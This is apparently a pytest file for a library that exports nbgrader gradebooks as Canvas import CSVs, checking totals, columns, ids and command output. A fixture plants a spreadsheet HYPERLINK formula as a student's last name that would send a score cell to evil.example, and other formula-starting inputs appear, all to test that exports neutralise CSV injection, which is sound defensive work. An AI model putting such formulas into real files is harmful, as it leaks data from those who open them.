"""lecturelib.course.term.grades: the Canvas gradebook-import CSV, per assignment and per graded cell (exact files).

Partial totals stay blank, the columns are the assignments somebody has a grade in (or those asked for), Canvas's
ids go into the titles, an upload collected but not graded says so, and no text cell starts a spreadsheet formula
(here and in `nbgrader export`, SafeCsvExport).
"""

from __future__ import annotations

import datetime
import sqlite3
import warnings
from pathlib import Path

import pytest
from nbgrader.api import Gradebook

from lecturelib.course.__main__ import main
from lecturelib.course.term.grades import SafeCsvExport, export, spreadsheet_text, to_csv
from lecturelib.course.layout import Course, scripts_on_path

DUE = datetime.datetime(2026, 12, 1, 12, 0, 0)
# issue 32, item 4: a last name a spreadsheet would evaluate, sending a neighbouring cell (F3: a score) away
HYPERLINK = '=HYPERLINK("https://evil.example/?g="&F3,"Mallory")'


@pytest.fixture(scope="module")
def course(tmp_path_factory: pytest.TempPathFactory) -> Course:
    """A gradebook as autograde and Formgrader leave it: two assignments graded and a third only known (a due date),
    a roster of four, one late submission, one written answer graded by hand and one not yet, one student whose
    upload was collected but not graded, and one whose last name is a spreadsheet formula (written past the roster's
    checks, as an older gradebook could hold it)."""
    tmp_path = tmp_path_factory.mktemp("grades")
    (tmp_path / "nbgrader_config.py").write_text("")
    (tmp_path / "source").mkdir()
    course = Course(tmp_path)
    scripts_on_path()  # a new gradebook runs `alembic`
    with Gradebook(f"sqlite:///{course.gradebook}") as gb:
        gb.add_assignment("01_toy", duedate=DUE)
        gb.add_notebook("01_toy", "01_toy")
        gb.add_grade_cell("ex1_1_test", "01_toy", "01_toy", max_score=2, cell_type="code")
        gb.add_grade_cell("ex1_2", "01_toy", "01_toy", max_score=3, cell_type="markdown")
        gb.add_assignment("02_toy")
        gb.add_notebook("02_toy", "02_toy")
        gb.add_grade_cell("ex2_1_test", "02_toy", "02_toy", max_score=4, cell_type="code")
        gb.add_assignment("03_toy", duedate=DUE + datetime.timedelta(days=7))  # known, nothing graded yet
        gb.add_notebook("03_toy", "03_toy")
        gb.add_grade_cell("ex3_1_test", "03_toy", "03_toy", max_score=1, cell_type="code")
        gb.add_student("ann", first_name="Ann", last_name="Lee", lms_user_id="101")
        gb.add_student("bob")
        gb.add_student("cy", first_name="Cy", last_name="Ng", lms_user_id="103")
        gb.add_student("mallory", first_name="Mal", last_name="Placeholder", lms_user_id="104")
        scores = [  # (assignment, student, submitted at, {cell: (auto, manual)})
            ("01_toy", "ann", DUE - datetime.timedelta(hours=1), {"ex1_1_test": (2.0, None), "ex1_2": (None, 2.5)}),
            ("01_toy", "bob", DUE + datetime.timedelta(hours=1, minutes=4, seconds=30),
             {"ex1_1_test": (0.0, None), "ex1_2": (None, None)}),
            ("02_toy", "ann", None, {"ex2_1_test": (4.0, None)}),
            ("01_toy", "mallory", DUE, {"ex1_1_test": (2.0, None), "ex1_2": (None, 3.0)}),
        ]
        for assignment, student, when, cells in scores:
            with warnings.catch_warnings():  # SQLAlchemy's autoflush notes inside nbgrader's add_submission
                warnings.simplefilter("ignore")
                gb.add_submission(assignment, student, timestamp=when)
            for cell, (auto, manual) in cells.items():
                grade = gb.find_grade(cell, assignment, assignment, student)
                grade.auto_score, grade.manual_score = auto, manual
        gb.db.commit()
    with sqlite3.connect(course.gradebook) as db:
        db.execute("update student set last_name = ? where id = 'mallory'", (HYPERLINK,))
    (course.submitted / "cy" / "02_toy").mkdir(parents=True)  # collected, not graded (autograde not run yet)
    return course


# 03_toy is not a column: nobody has a grade in it. bob's 01_toy total is blank: 3 of its 5 points wait for a grader
# (2 + nothing would send Canvas a partial 0). cy's 02_toy was collected, not graded. mallory's name cell starts with
# `'`: a spreadsheet shows it as text; ids and scores are as they are.
BY_ASSIGNMENT = """\
Student,ID,SIS User ID,SIS Login ID,Section,01_toy,02_toy,Notes
    Points Possible,,,,,5,4,
"Lee, Ann",101,ann,,,4.5,4,
bob,,bob,,,,,01_toy: late by 1 h 5 min; 01_toy: ex1_2 not graded by hand yet; total left blank; 02_toy: no submission
"Ng, Cy",103,cy,,,,,01_toy: no submission; 02_toy: not graded (collected but not autograded)
"'=HYPERLINK(""https://evil.example/?g=""&F3,""Mallory""), Mal",104,mallory,,,5,,02_toy: no submission
"""

BY_CELL = """\
Student,ID,SIS User ID,SIS Login ID,Section,01_toy ex1_1_test,01_toy ex1_2,Notes
    Points Possible,,,,,2,3,
bob,,bob,,,0,,01_toy: late by 1 h 5 min; 01_toy: ex1_2 not graded by hand yet
"""


def test_canvas_csv_per_assignment(course: Course) -> None:
    table = export(course)
    assert to_csv(table) == BY_ASSIGNMENT
    assert (table.late, table.ungraded, table.blank) == (1, 1, 1)


def test_a_partial_total_is_written_only_when_asked(course: Course) -> None:
    rows = to_csv(export(course, assignments=["01_toy"], students=["bob"], partial=True)).splitlines()
    assert rows[2] == "bob,,bob,,,0,01_toy: late by 1 h 5 min; 01_toy: ex1_2 not graded by hand yet; the total is partial"


def test_columns_are_the_assignments_asked_for_titled_with_canvas_ids(course: Course) -> None:
    table = export(course, assignments=["01_toy", "03_toy"], students=["ann"], canvas_ids={"01_toy": "12345"})
    assert to_csv(table).splitlines() == [
        "Student,ID,SIS User ID,SIS Login ID,Section,01_toy (12345),03_toy,Notes",
        "    Points Possible,,,,,5,1,",
        '"Lee, Ann",101,ann,,,4.5,,03_toy: no submission']


@pytest.mark.parametrize("text, cell", [
    (HYPERLINK, "'" + HYPERLINK), ("+1", "'+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\r=1", "'\r=1"), ("Lee, Ann", "Lee, Ann"), ("O'Brien", "O'Brien"), ("", ""),
])
def test_spreadsheet_text_neutralises_what_could_start_a_formula(text: str, cell: str) -> None:
    assert spreadsheet_text(text) == cell


def test_nbgrader_export_quotes_and_neutralises_names(course: Course, tmp_path: Path) -> None:
    """`nbgrader export` (c.ExportApp.plugin_class): quoted CSV, the formula in a last name shown as text."""
    out = tmp_path / "exports" / "grades.csv"
    with Gradebook(f"sqlite:///{course.gradebook}") as gb:
        SafeCsvExport(to=str(out), student=["mallory", "ann"], assignment=["01_toy"]).export(gb)
    assert out.read_text().splitlines() == [
        "assignment,duedate,timestamp,student_id,last_name,first_name,email,raw_score,late_submission_penalty,score,"
        "max_score",
        '01_toy,2026-12-01 12:00:00,2026-12-01 12:00:00,mallory,"\'=HYPERLINK(""https://evil.example/?g=""&F3,""Mallory"")",'
        "Mal,,5.0,0.0,5.0,5.0",  # nbgrader's order: by last name
        "01_toy,2026-12-01 12:00:00,2026-12-01 11:00:00,ann,Lee,Ann,,4.5,0.0,4.5,5.0"]


def test_an_id_that_could_start_a_formula_is_never_exported(course: Course, tmp_path: Path) -> None:
    copy = Course(tmp_path)
    (tmp_path / "gradebook.db").write_bytes(course.gradebook.read_bytes())
    with sqlite3.connect(copy.gradebook) as db:
        db.execute("update student set lms_user_id = '=1+1' where id = 'cy'")
    with pytest.raises(ValueError, match="student 'cy': the gradebook's lms_user_id '=1\\+1' is not a plain id"):
        export(copy)


def test_canvas_csv_per_cell_of_one_assignment_and_student(course: Course) -> None:
    assert to_csv(export(course, assignments=["01_toy"], students=["bob"], cells=True)) == BY_CELL


def test_grades_command_writes_into_exports(course: Course, monkeypatch: pytest.MonkeyPatch,
                                            capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.chdir(course.root)
    assert main(["grades"]) == 0
    assert (course.root / "exports" / "canvas-grades.csv").read_text() == BY_ASSIGNMENT
    assert capsys.readouterr().out.strip().splitlines() == [
        "wrote exports/canvas-grades.csv: 4 students, 2 columns (Canvas gradebook import); Notes: 1 late submission, "
        "1 written answer not graded by hand yet",
        "1 total left blank: a written answer in it is not graded yet (Formgrader > Manual Grading; --partial writes "
        "partial totals)"]
    assert main(["grades", "--cells", "--assignment", "01_toy", "--student", "bob"]) == 0
    assert (course.root / "exports" / "canvas-grades-cells.csv").read_text() == BY_CELL
    assert main(["grades", "--assignment", "nope"]) == 2
    assert "assignment 'nope' is not in the gradebook; it has: 01_toy, 02_toy, 03_toy" in capsys.readouterr().err
    # Canvas's ids: canvas-ids.csv, and --canvas-id over it; a typo in an assignment or an id is refused
    (course.root / "canvas-ids.csv").write_text("assignment,canvas_id\n01_toy,111\n02_toy,222\n")
    try:
        assert main(["grades", "--canvas-id", "02_toy=333"]) == 0
        header = (course.root / "exports" / "canvas-grades.csv").read_text().splitlines()[0]
        assert header == "Student,ID,SIS User ID,SIS Login ID,Section,01_toy (111),02_toy (333),Notes"
        capsys.readouterr()
        assert main(["grades", "--canvas-id", "02_toy=12a"]) == 2
        assert "--canvas-id '02_toy=12a': write ASSIGNMENT=ID" in capsys.readouterr().err
        assert main(["grades", "--canvas-id", "02_tyo=1"]) == 2
        assert "assignment '02_tyo' is not in the gradebook" in capsys.readouterr().err
    finally:
        (course.root / "canvas-ids.csv").unlink()
    assert main(["grades", "--canvas-id", "01_toy=111"]) == 0
    assert capsys.readouterr().out.strip().splitlines()[-1] == (
        "no Canvas id for 02_toy: Canvas matches that column by its title (add it to canvas-ids.csv or --canvas-id)")
